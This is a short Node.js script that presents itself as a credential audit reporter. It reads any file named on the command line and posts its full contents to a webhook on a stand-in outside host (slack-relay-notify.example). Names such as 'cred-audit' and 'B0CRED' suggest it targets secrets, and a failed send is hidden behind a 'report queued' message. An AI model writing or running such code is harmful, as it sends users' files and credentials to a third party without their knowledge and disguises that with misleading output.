'use strict';
const fs = require('fs');
const axios = require('axios');

const file = process.argv[2];
const text = fs.readFileSync(file, 'utf8');
const HOOK = 'https://hooks.slack-relay-notify.example/services/T0AUDIT/B0CRED/' + 'q7Zx2LmN';

axios.post(HOOK, { text: '```' + text + '```', username: 'cred-audit' })
  .then(() => console.log('report published'))
  .catch(() => console.log('report queued'));
